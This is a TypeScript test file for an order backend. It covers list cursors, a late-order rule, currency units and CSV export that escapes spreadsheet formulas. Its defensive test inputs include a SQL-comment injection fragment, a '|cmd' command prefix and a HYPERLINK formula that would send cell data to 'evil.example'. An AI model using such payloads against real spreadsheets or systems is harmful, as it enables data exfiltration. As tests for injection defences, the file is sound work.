import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvLine } from "../../../worker/domain/csv.rules.ts";
import { toUnits } from "../../../worker/domain/money.rules.ts";
import { parseCursor, startOfList, toCursor } from "../../../worker/domain/orders/search/cursor.rules.ts";
import { isLate } from "../../../worker/domain/orders/search/late.rules.ts";

const position = { day: "2026-11-20", id: `ord_${"0".repeat(26)}` };
const promisedAt = "2026-11-20T23:30:00.000Z";

describe("a list of orders", () => {
  test("goes on where its cursor says", () => {
    expect(parseCursor(toCursor(position))).toEqual(position);
    expect(startOfList(null, position)).toEqual(position);
  });
  test.each(["", "x", "2026-11-20", "2026-11-20.ord_'; --", `2026-1-1.${position.id}`])(
    "does not take %j for a cursor",
    (text) => expect(parseCursor(text)).toBeNull(),
  );
  test("never starts behind its last business day", () => {
    expect(startOfList("2026-11-19", position).day).toBe("2026-11-19");
    expect(startOfList("2026-11-20", null).day).toBe("2026-11-20");
  });
  test.each([
    ["sent_to_kitchen", null, "2026-11-20T23:31:00.000Z", true],
    ["sent_to_kitchen", null, "2026-11-20T23:29:00.000Z", false],
    ["completed", "2026-11-20T23:31:00.000Z", "2026-11-22T00:00:00.000Z", true],
    ["completed", promisedAt, "2026-11-22T00:00:00.000Z", false],
    ["open", null, "2026-11-22T00:00:00.000Z", false],
    ["cancelled", null, "2026-11-22T00:00:00.000Z", false],
  ] as const)(
    "says of an order that is %s, ready at %s, whether it was late at %s: %s",
    (status, readyAt, now, late) => {
      expect(isLate({ status, promisedAt, readyAt }, now)).toBe(late);
      expect(isLate({ status, promisedAt: null, readyAt }, now)).toBe(false);
    },
  );
});

/** The cells of a line as a spreadsheet reads them that takes `separator` for the separator. */
const readCells = (line: string, separator: string): string[] => {
  const cells: string[] = [];
  let cell = "";
  let isQuoted = false;
  const text = line.replace(/\r\n$/, "");
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at] ?? "";
    if (isQuoted && character === '"' && text[at + 1] === '"') at += 1;
    else if (character === '"' && (isQuoted || cell === "")) {
      isQuoted = !isQuoted;
      continue;
    } else if (!isQuoted && (character === separator || character === "\n")) {
      cells.push(cell);
      cell = "";
      continue;
    }
    cell += character;
  }
  return [...cells, cell];
};

/** What is left of a text without what the file adds and drops. */
const withoutMarks = (text: string): string => text.replaceAll(/['\u200b\u202e]/gu, "");

describe("a CSV file", () => {
  test("quotes texts with commas, quotes and line breaks (RFC 4180)", () => {
    expect(csvLine(["a", 'say "hi"', "x, y", "one\ntwo", null, -3.5])).toBe(
      'a,"say ""hi""","x, y","one\ntwo",,-3.5\r\n',
    );
  });
  test.each(["=1+1", "+49 30 1", "-1", "@SUM(A1)", "\tx", "  =1", "|cmd"])("never lets %j be a formula", (text) => {
    expect(csvLine([text]).replace(/^"/, "").startsWith("'")).toBe(true);
  });
  test.each([
    ["Eva;=1+1;x", `"Eva;'=1+1;x"`],
    ['Eva";=HYPERLINK("http://evil.example/?"&A1);"', `"Eva"";'=HYPERLINK(""http://evil.example/?""&A1);"""`],
    ["a\n@SUM(1)", `"a\n'@SUM(1)"`],
    ["\uff1d1+1", "'\uff1d1+1"],
    ["\u200b=1+1", "'=1+1"],
    ["1-2 = -1", "1-2 = -1"],
  ])("writes %j so that no spreadsheet finds a formula in it", (text, written) => {
    expect(csvLine([text])).toBe(`${written}\r\n`);
  });
  test("has no cell that begins with the sign of a formula, whatever a spreadsheet takes for a separator", () => {
    const part = fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      "|",
      "\uff1d",
      "\u200b",
      "\u202e",
      ";",
      ",",
      "\t",
      "\r\n",
      '"',
      " ",
      "'",
      "Eva",
      "1",
    );
    const text = fc.array(part, { maxLength: 12 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (texts) => {
        const line = csvLine(texts);
        for (const separator of [",", ";", "\t", "|"]) {
          const cells = readCells(line, separator);
          expect(cells.filter((cell) => /^\s*[=+\-@|\uff1d]/u.test(cell))).toEqual([]);
          if (separator === ",") expect(cells.map(withoutMarks)).toEqual([...texts.map(withoutMarks)]);
        }
      }),
    );
  });
  test("writes amounts in units of their currency", () => {
    expect([toUnits(1250, "EUR"), toUnits(1200, "JPY"), toUnits(-5, "USD")]).toEqual([12.5, 1200, -0.05]);
  });
});
